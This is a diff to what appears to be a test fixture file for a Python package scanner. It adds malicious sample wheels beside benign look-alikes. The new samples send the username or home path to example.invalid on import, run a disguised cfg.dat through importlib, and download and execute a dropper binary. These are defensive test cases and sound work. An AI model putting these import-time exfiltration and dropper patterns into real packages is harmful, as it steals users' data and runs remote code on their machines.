@@ -1009,6 +1009,37 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    "exfiltration:class-made-on-import": (
+        "grabber-0.1-py3-none-any.whl",
+        wheel(
+            "grabber",
+            "0.1",
+            {
+                "grabber/__init__.py": "import getpass\nimport urllib.request\n\n\nclass Grabber:\n    def __init__(self):\n        self.user = getpass.getuser()\n\n    def send(self):\n        urllib.request.urlopen('http://example.invalid/?u=' + self.user)\n\n\nGrabber().send()\n"
+            },
+        ),
+    ),
+    "file-exec:importlib-loader": (
+        "loader-0.1-py3-none-any.whl",
+        wheel(
+            "loader",
+            "0.1",
+            {
+                "loader/__init__.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_cfg', os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n_mod = importlib.util.module_from_spec(_spec)\n_spec.loader.exec_module(_mod)\n",
+                "loader/cfg.dat": "import os, urllib.request\nurllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n",
+            },
+        ),
+    ),
+    "dropper:written-in-one-call": (
+        "updater-0.1-py3-none-any.whl",
+        wheel(
+            "updater",
+            "0.1",
+            {
+                "updater/__init__.py": "import subprocess\nimport urllib.request\n\n\ndef update():\n    data = urllib.request.urlopen('http://example.invalid/u').read()\n    open('/tmp/updater-bin', 'wb').write(data)\n    subprocess.Popen(['/tmp/updater-bin'])\n"
+            },
+        ),
+    ),
     "credential-read:shadow": (
         "shadow-0.1-py3-none-any.whl",
         wheel(
@@ -1152,6 +1183,9 @@ BENIGN: dict[str, bytes] = {
             "quiet/setup_logging.py": "from .config import load\nfrom .net import client\n\nSETTINGS = load()\nCLIENT = client(SETTINGS)\n",
             "quiet/config.py": "import os\n\n\ndef load():\n    return {'home': os.environ.get('QUIET_HOME', '~')}\n",
             "quiet/net.py": "import urllib.request\n\n\ndef client(settings):\n    return urllib.request.build_opener()\n",
+            "quiet/defaults.py": "import os\nimport urllib.request\n\n\nclass Settings:\n    def __init__(self):\n        self.home = os.environ.get('QUIET_HOME', '~')\n        self.opener = urllib.request.build_opener()\n\n    def fetch(self, url):\n        return self.opener.open(url).read()\n\n\nDEFAULT = Settings()\n",
+            "quiet/_version.py": "import importlib.util\nimport os\n\n_spec = importlib.util.spec_from_file_location('_v', os.path.join(os.path.dirname(__file__), 'version.py'))\n",
+            "quiet/version.py": "VERSION = '1.0'\n",
             "quiet/keys.py": "from pynput import keyboard\n\n\ndef hotkey(callback):\n    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': callback})\n",
         },
         requires="Requires-Dist: cchardet\nRequires-Dist: authlib\nRequires-Dist: fastai\nRequires-Dist: pymssql\n"
